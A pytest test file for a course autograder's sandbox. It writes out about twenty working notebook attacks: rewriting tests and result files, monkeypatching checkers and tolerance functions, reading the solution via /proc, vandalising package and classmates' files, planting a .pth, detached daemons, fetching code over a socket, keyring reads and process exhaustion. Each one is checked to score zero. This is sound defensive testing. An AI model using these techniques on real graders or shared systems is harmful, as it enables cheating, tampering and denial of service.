"""Issue 36: grades that cannot be had without solving. The issue's sixteen attacks on the grader and one more (a
world-readable copy of the solution), each a blank (or correct) a1 notebook with cells a student who reads the
package's source could write, graded as one folder with correct submissions after them: each attack scores what the
same notebook scores without it (blank: 0), changes no other row, no file of the checkout, `dist/` or the
environment, leaves no process behind; the correct submissions score 9/9, also one saved with another kernel name."""
import csv
import hashlib
import io
import json
import os
import shutil
import subprocess
import sys
import sysconfig
import time
import zipfile
from pathlib import Path

import nbformat
import pytest
from conftest import runs_a_submission

from metacl_lite.course import assignments as A
from metacl_lite.course import grading as G
from metacl_lite.course import sheet as S

ROOT = Path(__file__).resolve().parents[1]
NAME = "a1_dynamic_balance"
PACKAGE_FILE = ROOT / "metacl_lite" / "balance.py"
SITE = Path(sysconfig.get_paths()["purelib"])
#: a world-readable folder outside /tmp, the homes and the checkout (the jail once showed all of the machine but those)
PLANTED = Path("/srv" if os.access("/srv", os.W_OK) else "/var/tmp") / f"metacl-attack-{os.getpid()}"  # (no root)

#: attack -> (cell source, or None for a file-level attack, built on the blank or the correct notebook)
PASSING_TEST = ("OK_FORMAT = False\\nname = \"q1\"\\npoints = 3\\n"
                "from otter.test_files import test_case\\n@test_case(points=3)\\ndef t(env):\\n    pass\\n")


def attacks(paths: dict) -> dict[str, str]:
    """The attack cells; `paths` names the instructor's files an attacker would aim at."""
    p = {k: repr(str(v)) for k, v in paths.items()}
    everywhere = ("import glob, os\n"
                  "def everywhere(path):\n"
                  "    yield path\n"
                  "    for d in glob.glob('/proc/[0-9]*'):\n"
                  "        yield d + '/root' + path\n"
                  "        yield d + '/cwd/' + os.path.basename(path)\n")
    load_solution = ("import json\n"
                     "def load_solution(candidates):\n"
                     "    for f in candidates:\n        try:\n            cells = json.load(open(f))['cells']\n"
                     "        except Exception:\n            continue\n"
                     "        defs = [''.join(c['source']) for c in cells if 'def my_' in ''.join(c['source'])]\n"
                     "        if defs and not any(d.rstrip().endswith('...') for d in defs):  # not a blank's stubs\n"
                     "            for d in defs:\n                exec(d, globals())\n            return f\n")
    return {
        "rewrite_tests": ("import os\nfor d in ('tests', '../tests', '/tmp/tests'):\n    try:\n"
                          "        os.makedirs(d, exist_ok=True)\n"
                          "        for q in ('q1', 'q2', 'q3'):\n"
                          f"            open(f'{{d}}/{{q}}.py', 'w').write('{PASSING_TEST}'.replace('q1', q))\n"
                          "    except OSError:\n        pass\n"),
        "checker": ("try:\n    from otter.execute import Checker\n    Checker._test_files.append(None)\n"
                    "    Checker.check = lambda *a, **k: None\nexcept Exception:\n    pass\n"),
        "post_run_cell": ("import json, os\ndef _rewrite(*a):\n    for f in ('results.json', 'results.pkl', '../result.json'):\n"
                          "        try:\n            open(f, 'w').write(json.dumps({'questions': {}}))\n"
                          "        except OSError:\n            pass\n"
                          "get_ipython().events.register('post_run_cell', _rewrite)\n"),
        "atexit": ("import atexit, glob, json\ndef _rewrite():\n"
                   "    for f in glob.glob('/tmp/metacl-grade-*/private/result.json') + ['result.json']:\n"
                   "        try:\n            open(f, 'w').write(json.dumps({'questions': {'q1': {'score': 3, "
                   "'possible': 3, 'tests': []}}}))\n        except OSError:\n            pass\n"
                   "atexit.register(_rewrite)\n"),
        "always_equal": ("import torch\nclass Eq(float):\n    __eq__ = lambda s, o: True\n    __ne__ = lambda s, o: False\n"
                         "    __abs__ = lambda s: Eq(0.0)\n    __sub__ = __rsub__ = lambda s, o: Eq(0.0)\n"
                         "    __lt__ = __le__ = __gt__ = __ge__ = lambda s, o: True\n"
                         "class T(torch.Tensor):\n    def __eq__(self, o):\n        return True\n"
                         "class D(dict):\n    def __getitem__(self, k):\n        return Eq(0.0)\n"
                         "def my_lambda(g1, g2):\n    return Eq(float('nan'))\n"
                         "def my_balance(g1, g2, gamma=0.0):\n    return torch.zeros_like(g1).as_subclass(T), Eq(float('nan'))\n"
                         "def my_kkt(g1, g2, g, lam):\n    return D(stationarity=Eq(1.0), primal=Eq(1.0), dual=Eq(1.0), "
                         "complementarity=Eq(1.0))\n"),
        "getframe": ("import sys\ndef _find(name):\n    f = sys._getframe(1)\n    while f is not None:\n"
                     "        for v in list(f.f_locals.values()) + list(f.f_globals.values()):\n"
                     "            if getattr(v, '__name__', '') == name:\n                return v\n"
                     "        f = f.f_back\n"
                     "def my_lambda(g1, g2):\n    return _find('dynamic_lambda')(g1, g2)\n"
                     "def my_balance(g1, g2, gamma=0.0):\n    return _find('dynamic_balance')(g1, g2, gamma)\n"
                     "def my_kkt(g1, g2, g, lam):\n    return _find('kkt_residuals')(g1, g2, g, lam)\n"),
        "closure_gc": ("import gc\nfrom metacl_lite.course import grading_refs\n"
                       "def _find(name):\n    for o in gc.get_objects():\n"
                       "        if callable(o) and getattr(o, '__name__', '') == name and 'withheld' not in "
                       "str(getattr(o, '__code__', None) and o.__code__.co_consts):\n            return o\n"
                       "    cells = getattr(grading_refs.reference, '__closure__', None) or ()\n"
                       "    for c in cells:\n        if isinstance(c.cell_contents, dict) and c.cell_contents:\n"
                       "            return c.cell_contents.get('balance.' + name)\n"
                       "    code = compile(f'r = reference(\"balance.{name}\")', 'tests/q1.py', 'exec')\n"
                       "    ns = {'reference': grading_refs.reference}\n    exec(code, ns)\n    return ns['r']\n"
                       "def my_lambda(g1, g2):\n    return _find('dynamic_lambda')(g1, g2)\n"
                       "def my_balance(g1, g2, gamma=0.0):\n    return _find('dynamic_balance')(g1, g2, gamma)\n"
                       "def my_kkt(g1, g2, g, lam):\n    return _find('kkt_residuals')(g1, g2, g, lam)\n"),
        "private_copy": ("import importlib, importlib.util, metacl_lite.balance as B\n"
                         "from metacl_lite.course import grading_refs\n"
                         "def _copy():\n"
                         f"    for path in (B.__file__, {p['package_file']}):\n"
                         "        try:\n            spec = importlib.util.spec_from_file_location('x', path)\n"
                         "            m = importlib.util.module_from_spec(spec)\n            spec.loader.exec_module(m)\n"
                         "            return m\n        except Exception:\n            pass\n"
                         "    try:\n        return grading_refs._private_copy('balance')\n    except Exception:\n"
                         "        return importlib.reload(B)\n"
                         "C = _copy()\nmy_lambda, my_balance, my_kkt = C.dynamic_lambda, C.dynamic_balance, C.kkt_residuals\n"),
        "torch_isclose": ("import numpy, torch\ntorch.isclose = lambda a, b, *x, **k: torch.ones_like(a, dtype=torch.bool)\n"
                          "torch.allclose = lambda *a, **k: True\ntorch.testing.assert_close = lambda *a, **k: None\n"
                          "numpy.testing.assert_allclose = lambda *a, **k: None\n"),
        "vandal_package": (everywhere + f"for f in everywhere({p['package_file']}):\n    try:\n"
                           "        open(f, 'a').write('\\nraise ImportError(1)\\n')\n    except OSError:\n        pass\n"),
        "vandal_dist": (everywhere + f"for f in everywhere({p['autograder']}):\n    try:\n"
                        "        open(f, 'wb').write(b'PK')\n    except OSError:\n        pass\n"),
        "vandal_class": (everywhere + f"for nb in {p['class_notebooks']}:\n    for f in everywhere(nb):\n        try:\n"
                         "            open(f, 'w').write('{}')\n        except OSError:\n            pass\n"),
        "daemon": ("import subprocess, sys\n"
                   f"sheet = {p['sheet']}\n"
                   "code = '\\n'.join(['import os, time', 'os.setsid()', 'if os.fork(): os._exit(0)', 'time.sleep(4)',\n"
                   "                     'for f in (%r, \"/proc/1/root\" + %r):' % (sheet, sheet),\n"
                   "                     '    try: open(f, \"a\").write(\"x,9,9,9\\\\n\")',\n"
                   "                     '    except OSError: pass'])\n"
                   "subprocess.Popen([sys.executable, '-c', code], start_new_session=True)\n"),
        "read_solution": (everywhere + load_solution +
                          f"load_solution(list(everywhere({p['solution']})) + list(everywhere({p['source']})))\n"),
        "world_readable": (everywhere + load_solution +  # an instructor's copy, readable by every user
                           f"load_solution(everywhere({p['planted']}))\n"),
        "pth": (everywhere + f"for f in everywhere({p['pth']}):\n    try:\n"
                "        open(f, 'w').write('import os; os._exit(3)\\n')\n    except OSError:\n        pass\n"),
        # issue 43: the network, the keyrings, a process that outlives its row, a process limit spent for others
        "network": ("import socket\ndef _fetch():\n"
                    f"    for fam, addr in ((socket.AF_INET, ('127.0.0.1', {paths['port']})), "
                    f"(socket.AF_UNIX, '\\0' + {p['abstract']})):\n"
                    "        try:\n            s = socket.socket(fam, socket.SOCK_STREAM)\n            s.settimeout(3)\n"
                    "            s.connect(addr)\n            data = b''\n"
                    "            while chunk := s.recv(65536):\n                data += chunk\n"
                    "            return data.decode()\n        except OSError:\n            pass\n"
                    "code = _fetch()\nif code:\n    exec(code, globals())\n"),
        "keyring": ("import ctypes, platform\nlibc = ctypes.CDLL(None, use_errno=True)\n"
                    "libc.syscall.restype = ctypes.c_long\n"
                    "ADD, CTL = {'x86_64': (248, 250), 'aarch64': (217, 219)}[platform.machine()]\n"
                    "for ring in (-3, -4, -5):  # the session keyring, the uid's, the uid's session\n"
                    "    k = libc.syscall(CTL, 10, ctypes.c_long(ring), b'user', b'metacl-attack-secret', 0)\n"
                    "    if k > 0:\n        buf = ctypes.create_string_buffer(1 << 16)\n"
                    "        n = libc.syscall(CTL, 11, ctypes.c_long(k), buf, 1 << 16)\n"
                    "        exec(buf.raw[:n].decode(), globals())\n        break\n"
                    "libc.syscall(ADD, b'user', b'metacl-attack-planted', b'x', 1, ctypes.c_long(-4))\n"),
        "outlive": ("import subprocess, threading, time\n"
                    "subprocess.Popen(['sleep', '600'], start_new_session=True)\n"
                    "threading.Thread(target=time.sleep, args=(600,)).start()  # not a daemon: the runner waits\n"),
        "nproc_hog": ("import subprocess, time\nheld = []\nfor i in range(2000):\n    try:\n"
                      "        held.append(subprocess.Popen(['sleep', '40']))\n    except OSError:\n        break\n"
                      "time.sleep(30)  # the neighbour graded beside it needs processes now\n"),
    }


#: the grader, with a secret (the solution's functions) in its session keyring, as a key an instructor's tools keep
KEYRING_GRADER = (
    "import ctypes, platform, sys\n"
    "libc = ctypes.CDLL(None, use_errno=True)\nlibc.syscall.restype = ctypes.c_long\n"
    "ADD, CTL = {'x86_64': (248, 250), 'aarch64': (217, 219)}[platform.machine()]\n"
    "assert libc.syscall(CTL, 1, None) > 0, 'no session keyring'\n"
    "secret = open(sys.argv[1], 'rb').read()\n"
    "assert libc.syscall(ADD, b'user', b'metacl-attack-secret', secret, len(secret), ctypes.c_long(-3)) > 0\n"
    "from metacl_lite.cli import main\n"
    "sys.exit(main(sys.argv[2:]))\n")


def solution_functions(solution: Path) -> str:
    """The solution notebook's `my_` functions, as source."""
    cells = nbformat.read(str(solution), as_version=4).cells
    return "\n\n".join(c.source for c in cells if c.cell_type == "code" and "def my_" in c.source)


class Server:
    """Serves `payload` to whoever connects, over TCP on the host's loopback and over an abstract unix socket (both
    scoped by the network namespace), and counts the connections."""

    def __init__(self, payload: bytes):
        import socket
        import threading

        self.payload, self.connections = payload, 0
        self.tcp = socket.create_server(("127.0.0.1", 0))
        self.port = self.tcp.getsockname()[1]
        self.abstract = f"metacl-attack-{os.getpid()}-{id(self)}"
        self.unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.unix.bind("\0" + self.abstract)
        self.unix.listen()
        for sock in (self.tcp, self.unix):
            threading.Thread(target=self._serve, args=(sock,), daemon=True).start()

    def _serve(self, sock) -> None:
        while True:
            try:
                conn, _ = sock.accept()
            except OSError:
                return
            self.connections += 1
            with conn:
                conn.sendall(self.payload)

    def close(self) -> None:
        import socket

        for sock in (self.tcp, self.unix):  # shutdown wakes the accept that close alone leaves waiting
            try:
                sock.shutdown(socket.SHUT_RDWR)
            except OSError:
                pass
            sock.close()


def _with_cell(src: Path, out: Path, cell: str, kernel: str = "") -> None:
    nb = nbformat.read(str(src), as_version=4)
    if cell:  # last: after the notebook's own (blank) definitions, which would replace the attack's
        nb.cells.append(nbformat.v4.new_code_cell(cell))
    if kernel:
        nb.metadata["kernelspec"] = {"name": kernel, "display_name": kernel, "language": "python"}
    nbformat.write(nb, str(out))


def _digest(paths) -> dict:
    out = {}
    for p in paths:
        p = Path(p)
        out[str(p)] = hashlib.sha256(p.read_bytes()).hexdigest() if p.is_file() else None
    return out


def _another_graders(proc, mine: Path) -> bool:
    """Whether `proc` runs a submission of another grading on this machine (a second grader, beside this one): its
    environment's HOME is the scratch folder of a grading outside this test's TMPDIR `mine`. A process of this
    grading, whatever it became, keeps the HOME it was started with under `mine`."""
    try:
        home = proc.environ().get("HOME", "")
    except Exception:  # noqa: BLE001 - gone, or unreadable: counted as this grading's
        return False
    return "metacl-grade-" in home and not home.startswith(str(mine) + "/")


def _jail_processes(mine: Path) -> list:
    """The command lines of the processes that run as a submission of this grading (its own uid, or the old shared
    user), leaving out those of another grader's submissions (`_another_graders`)."""
    import psutil

    from metacl_lite.course import jail

    found = []
    for proc in psutil.process_iter(["username", "uids", "cmdline"]):
        try:
            if ((proc.info["username"] == jail.USER or runs_a_submission(proc))
                    and not _another_graders(proc, mine)):
                found.append(proc.info["cmdline"])
        except (psutil.Error, TypeError, AttributeError):
            pass
    return found


@pytest.fixture(scope="module")
def attacked(tmp_path_factory):
    cwd = tmp_path_factory.mktemp("attacks")
    out = A.generate(NAME, cwd / "dist", run_tests=False)
    subs = cwd / "subs"
    subs.mkdir()
    zip_path = A.autograder_zip(NAME, cwd / "dist")
    sheet = cwd / "grades.csv"
    planted = PLANTED / f"{NAME}.ipynb"  # where an instructor might keep a class: /srv, outside /tmp and the homes
    secret = solution_functions(out["solution"]).encode()
    (cwd / "secret.py").write_bytes(secret)
    server = Server(secret)
    paths = {"solution": out["solution"], "source": ROOT / "book/assignments/source" / f"{NAME}.md",
             "package_file": PACKAGE_FILE, "autograder": zip_path, "sheet": sheet, "pth": SITE / "zz_attack.pth",
             "class_notebooks": [str(subs / "zz_correct.ipynb"), str(subs / "correct_other_kernel.ipynb")],
             "planted": planted, "port": server.port, "abstract": server.abstract}
    cells = attacks(paths)
    for name, cell in cells.items():
        _with_cell(out["student"], subs / f"{name}.ipynb", cell)
    _with_cell(out["solution"], subs / "zz_correct.ipynb", "")
    _with_cell(out["solution"], subs / "nproc_hog_neighbour.ipynb", "")  # graded beside the hog (--jobs 2)
    _with_cell(out["solution"], subs / "correct_other_kernel.ipynb", "", kernel="conda-env-metacl-py")
    # 10. an otter export zip carrying an otter/ folder and tests that would shadow the installed ones
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.write(out["student"], "a1_dynamic_balance.ipynb")
        z.writestr("otter/__init__.py", "raise SystemExit('shadowed')\n")
        z.writestr("tests/q1.py", PASSING_TEST.replace("\\n", "\n"))
        z.writestr("../escape.ipynb", "{}")
    (subs / "zip_with_otter.zip").write_bytes(buf.getvalue())
    # 11. a symbolic link in the class folder to the solution notebook
    (subs / "symlink.ipynb").symlink_to(out["solution"])
    PLANTED.mkdir(parents=True, mode=0o755, exist_ok=True)
    os.chmod(PLANTED, 0o755)
    planted.write_bytes(Path(out["solution"]).read_bytes())
    os.chmod(planted, 0o644)
    watched = [PACKAGE_FILE, zip_path, out["solution"], *paths["class_notebooks"], SITE / "zz_attack.pth"]
    site_before = sorted(p.name for p in SITE.iterdir())
    before = _digest(watched)
    env = dict(os.environ, METACL_LITE_PROGRESS="0", TMPDIR=str(cwd / "tmpdir"))
    (cwd / "tmpdir").mkdir()
    try:
        r = subprocess.run([sys.executable, "-c", KEYRING_GRADER, str(cwd / "secret.py"), "assignments", "grade",
                            "a1", "subs", "--out", str(sheet), "--feedback", "fb", "--timeout", "60", "--jobs", "2",
                            "--dist", "dist"], capture_output=True, text=True, cwd=cwd, env=env)
        left = _jail_processes(cwd / "tmpdir")  # at once: nothing of a submission outlives its row
        time.sleep(6)  # the daemon's delay: it would have written by now
        after, sheet_text = _digest(watched), sheet.read_text()
        left += _jail_processes(cwd / "tmpdir")
    finally:
        server.close()
        (SITE / "zz_attack.pth").unlink(missing_ok=True)  # whatever happened, the environment is left as it was
        shutil.rmtree(PLANTED, ignore_errors=True)
    return {"cwd": cwd, "r": r, "before": before, "after": after, "sheet": sheet_text, "left": left,
            "connections": server.connections,
            "site": (site_before, sorted(p.name for p in SITE.iterdir())), "attacks": list(cells)}


@pytest.mark.slow
def test_every_attack_scores_what_its_notebook_scores_without_it(attacked):
    r = attacked["r"]
    assert r.returncode == 0, r.stdout + r.stderr
    rows = {Path(x["submission"]).stem: x for x in csv.DictReader(io.StringIO(attacked["sheet"]))}
    assert set(rows) == {*attacked["attacks"], "zz_correct", "correct_other_kernel", "zip_with_otter", "symlink",
                         "nproc_hog_neighbour"}
    for name in (*attacked["attacks"], "zip_with_otter", "symlink"):
        assert (rows[name]["q1"], rows[name]["q2"], rows[name]["q3"], rows[name]["total"]) == ("0",) * 4, rows[name]
    assert rows["symlink"]["status"].startswith("error: a symbolic link"), rows["symlink"]
    for name in ("zz_correct", "correct_other_kernel", "nproc_hog_neighbour"):  # after the attacks, or beside one
        assert (rows[name]["total"], rows[name]["status"]) == ("9", "ok"), rows[name]
    assert {x["possible"] for x in rows.values()} == {"9"} and {x["assignment"] for x in rows.values()} == {NAME}
    assert len(attacked["sheet"].splitlines()) == len(rows) + 1, "a row was added behind the grader's back"


@pytest.mark.slow
def test_no_attack_changed_the_checkout_dist_the_class_folder_or_the_environment(attacked):
    assert attacked["after"] == attacked["before"]
    assert attacked["site"][0] == attacked["site"][1]
    assert attacked["left"] == [], "a submission's process outlived its grading"
    assert attacked["connections"] == 0, "a submission reached the grading machine's network"
    assert not list((attacked["cwd"] / "tmpdir").iterdir()), "a grading left its temporary folder behind"


@pytest.mark.slow
def test_feedback_names_hidden_tests_by_number_and_reports_the_cells_that_raised(attacked):
    fb = attacked["cwd"] / "fb"
    text = (fb / S.feedback_name("subs/vandal_package.ipynb")).read_text()
    assert "hidden test 1 failed" in text and "random_against_reference" not in text, text
    text = (fb / S.feedback_name("subs/private_copy.ipynb")).read_text()
    assert "is withheld while grading" in text, text  # the copy in the jail holds stubs only
    text = (fb / S.feedback_name("subs/always_equal.ipynb")).read_text()
    assert "q1: 0 / 3" in text and "hidden test 1 failed" in text, text


def test_every_attack_is_valid_python_and_the_private_copy_would_score_outside_the_jail(tmp_path):
    """The attacks are real: each cell compiles (a SyntaxError would score 0 for the wrong reason), and the
    private-copy attack, run where the package's source is readable (as in the old in-kernel grading), gives the
    reference's answers."""
    out = A.generate(NAME, tmp_path / "dist", run_tests=False)
    server = Server(solution_functions(out["solution"]).encode())
    cells = attacks({"solution": tmp_path / "s.ipynb", "source": tmp_path / "s.md", "package_file": PACKAGE_FILE,
                     "autograder": tmp_path / "a.zip", "sheet": tmp_path / "g.csv", "pth": tmp_path / "x.pth",
                     "class_notebooks": [str(tmp_path / "c.ipynb")], "planted": tmp_path / "p.ipynb",
                     "port": server.port, "abstract": server.abstract})
    for name, cell in cells.items():
        compile(cell, name, "exec")
    import torch

    from metacl_lite.balance import dynamic_lambda

    ns = {}
    exec(compile(cells["private_copy"], "private_copy", "exec"), ns)
    g1, g2 = torch.tensor([1.0, 0.0], dtype=torch.float64), torch.tensor([-1.0, 1.0], dtype=torch.float64)
    assert float(ns["my_lambda"](g1, g2)) == float(dynamic_lambda(g1, g2)) == 0.5
    (tmp_path / "p.ipynb").write_bytes(Path(out["solution"]).read_bytes())  # the world-readable copy, readable
    ns = {"torch": torch}
    exec(compile(cells["world_readable"], "world_readable", "exec"), ns)
    assert float(ns["my_lambda"](g1, g2)) == 0.5
    ns = {"torch": torch}  # the network, where there is one: both sockets serve the solution
    exec(compile(cells["network"], "network", "exec"), ns)
    server.close()
    assert float(ns["my_lambda"](g1, g2)) == 0.5 and server.connections == 1
    (tmp_path / "secret.py").write_text(solution_functions(out["solution"]))  # a keyring, where it can be read
    check = "print(float(my_lambda(torch.tensor([1.0, 0.0]), torch.tensor([-1.0, 1.0]))))"
    grader = KEYRING_GRADER.replace("from metacl_lite.cli import main\nsys.exit(main(sys.argv[2:]))\n",
                                    "import torch\n" + cells["keyring"] + check + "\n")
    r = subprocess.run([sys.executable, "-c", grader, str(tmp_path / "secret.py")], capture_output=True, text=True)
    assert r.returncode == 0 and r.stdout.strip() == "0.5", r.stderr[-2000:]


SECRET = "SECRET-7f3a"


@pytest.mark.slow
def test_a4_files_cross_as_bytes_and_a_named_path_reads_nothing_for_the_submission(tmp_path):
    """Assignment 4's tests take the submission's results files: the real solution (trained in the jail) grades 4/4,
    its files sent by the jail as bytes; a submission that names a file only the instructor can read, hoping the
    visible test hands it back to its `collect`, gets nothing (the grader once shipped any file a path named, as root,
    and `collect`'s error message carried it into the feedback)."""
    name = "a4_experiment"
    out = A.generate(name, tmp_path / "dist", run_tests=False)
    secret = tmp_path / "instructor" / "grades.csv"
    secret.parent.mkdir()
    secret.write_text(SECRET)
    subs = tmp_path / "subs"
    subs.mkdir()
    _with_cell(out["solution"], subs / "solution.ipynb", "")
    nb = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell(
        "from pathlib import Path\n"
        f"files = {{10: Path({str(secret)!r}), 100: Path('../../{secret.parent.name}/{secret.name}')}}\n"
        "def collect(files):\n    seen = []\n    for p in files.values():\n        try:\n"
        "            seen.append(Path(p).read_text()[:40])\n        except OSError as e:\n"
        "            seen.append(type(e).__name__)\n    raise RuntimeError(' | '.join(seen))\n")])
    nbformat.write(nb, str(subs / "exfiltrate.ipynb"))
    r = subprocess.run([sys.executable, "-m", "metacl_lite", "assignments", "grade", "a4", "subs", "--out",
                        "grades.csv", "--feedback", "fb", "--jobs", "2", "--dist", "dist", "--show-hidden"],
                       capture_output=True, text=True, cwd=tmp_path, env=dict(os.environ, METACL_LITE_PROGRESS="0"))
    assert r.returncode == 0, r.stdout + r.stderr
    rows = {Path(x["submission"]).stem: x for x in csv.DictReader(io.StringIO((tmp_path / "grades.csv").read_text()))}
    assert (rows["solution"]["total"], rows["solution"]["status"]) == ("4", "ok"), rows["solution"]
    assert (rows["exfiltrate"]["total"], rows["exfiltrate"]["status"]) == ("0", "ok"), rows["exfiltrate"]
    text = (tmp_path / "fb" / S.feedback_name("subs/exfiltrate.ipynb")).read_text()
    assert SECRET not in text and "FileNotFoundError | FileNotFoundError" in text, text
